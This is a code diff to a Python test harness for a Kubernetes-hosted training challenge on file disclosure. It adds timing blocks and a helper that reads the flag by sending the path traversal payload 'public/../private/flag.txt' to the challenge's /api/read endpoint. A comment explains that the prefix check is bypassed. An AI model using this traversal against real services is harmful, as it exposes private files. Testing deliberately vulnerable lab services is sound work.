@@ -16,72 +16,86 @@ def test_file_disclosure_challenge(base_url: Optional[str] = None, verbose: bool
     result = TestResult("File Disclosure Challenge")
     
     # Determine URL
-    if not base_url:
-        if verbose:
-            print("  Checking if namespace exists...")
-        if not check_namespace_exists('file-disclosure'):
-            result.failure("Namespace 'file-disclosure' does not exist. Deploy the challenge first using: kubectl apply -f challenges/beginner/file-disclosure/")
-            return result
+    with result.timed('lookup'):
+        if not base_url:
+            if verbose:
+                print("  Checking if namespace exists...")
+            if not check_namespace_exists('file-disclosure'):
+                result.failure("Namespace 'file-disclosure' does not exist. Deploy the challenge first using: kubectl apply -f challenges/beginner/file-disclosure/")
+                return result
         
-        if verbose:
-            print("  Checking if service exists...")
-        if not check_service_exists('file-disclosure', 'file-disclosure'):
-            result.failure("Service 'file-disclosure' does not exist in namespace 'file-disclosure'. Deploy the challenge first.")
-            return result
+            if verbose:
+                print("  Checking if service exists...")
+            if not check_service_exists('file-disclosure', 'file-disclosure'):
+                result.failure("Service 'file-disclosure' does not exist in namespace 'file-disclosure'. Deploy the challenge first.")
+                return result
         
-        if verbose:
-            print("  Waiting for service NodePort...")
-        port = wait_for_service('file-disclosure', 'file-disclosure')
-        if not port:
-            result.failure("Could not get service NodePort. The service may not be ready yet. Try: kubectl get svc -n file-disclosure")
-            result.details['namespace_exists'] = check_namespace_exists('file-disclosure')
-            result.details['service_exists'] = check_service_exists('file-disclosure', 'file-disclosure')
-            return result
-        base_url = f"http://localhost:{port}"
+            if verbose:
+                print("  Waiting for service NodePort...")
+            port = wait_for_service('file-disclosure', 'file-disclosure')
+            if not port:
+                result.failure("Could not get service NodePort. The service may not be ready yet. Try: kubectl get svc -n file-disclosure")
+                result.details['namespace_exists'] = check_namespace_exists('file-disclosure')
+                result.details['service_exists'] = check_service_exists('file-disclosure', 'file-disclosure')
+                return result
+            base_url = f"http://localhost:{port}"
     
     # Check service health with retries (pods might still be starting)
-    if verbose:
-        print("  Checking service health...")
+    with result.timed('health'):
+        if verbose:
+            print("  Checking service health...")
     
-    # Try to get pod status for diagnostics
-    pod_status = None
-    try:
-        import subprocess
-        proc = subprocess.run(
-            ['kubectl', 'get', 'pods', '-n', 'file-disclosure', '-l', 'app=file-disclosure', '-o', 'jsonpath={.items[0].status.phase}'],
-            capture_output=True,
-            text=True,
-            timeout=5
-        )
-        if proc.returncode == 0:
-            pod_status = proc.stdout.strip()
-    except Exception:
-        pass
+        # Try to get pod status for diagnostics
+        pod_status = None
+        try:
+            import subprocess
+            proc = subprocess.run(
+                ['kubectl', 'get', 'pods', '-n', 'file-disclosure', '-l', 'app=file-disclosure', '-o', 'jsonpath={.items[0].status.phase}'],
+                capture_output=True,
+                text=True,
+                timeout=5
+            )
+            if proc.returncode == 0:
+                pod_status = proc.stdout.strip()
+        except Exception:
+            pass
     
-    is_healthy, health_error = check_service_health(base_url, timeout=10, retries=5, retry_delay=3)
-    if not is_healthy:
-        error_msg = f"Service not healthy at {base_url} after multiple attempts."
-        if pod_status:
-            error_msg += f" Pod status: {pod_status}"
-        if health_error:
-            error_msg += f" Connection error: {health_error}"
+        is_healthy, health_error = check_service_health(base_url, timeout=10, retries=5, retry_delay=3)
+        if not is_healthy:
+            error_msg = f"Service not healthy at {base_url} after multiple attempts."
+            if pod_status:
+                error_msg += f" Pod status: {pod_status}"
+            if health_error:
+                error_msg += f" Connection error: {health_error}"
         
-        result.failure(error_msg)
-        result.details['base_url'] = base_url
-        result.details['pod_status'] = pod_status or "unknown"
-        result.details['health_error'] = health_error
-        result.details['suggestion'] = "Try: kubectl get pods -n file-disclosure && kubectl logs -n file-disclosure -l app=file-disclosure"
-        return result
+            result.failure(error_msg)
+            result.details['base_url'] = base_url
+            result.details['pod_status'] = pod_status or "unknown"
+            result.details['health_error'] = health_error
+            result.details['suggestion'] = "Try: kubectl get pods -n file-disclosure && kubectl logs -n file-disclosure -l app=file-disclosure"
+            return result
     
+    with result.timed('exploit'):
+        exploited = exploit_file_disclosure(base_url)
+    exploited.timings = result.timings
+    return exploited
+
+
+def exploit_file_disclosure(base_url: str, session=requests, timeout: float = 10) -> TestResult:
+    """Read the flag through the path traversal on a running file-disclosure service
+
+    `session` may be a requests.Session to reuse connections across checks.
+    """
+    result = TestResult("File Disclosure Challenge")
     try:
         # Test path traversal vulnerability
         # The app checks for "public/" prefix but allows "../" after it
         vulnerable_path = "public/../private/flag.txt"
         
-        response = requests.get(
+        response = session.get(
             f"{base_url}/api/read",
             params={'file': vulnerable_path},
-            timeout=10
+            timeout=timeout
         )
         
         if response.status_code != 200: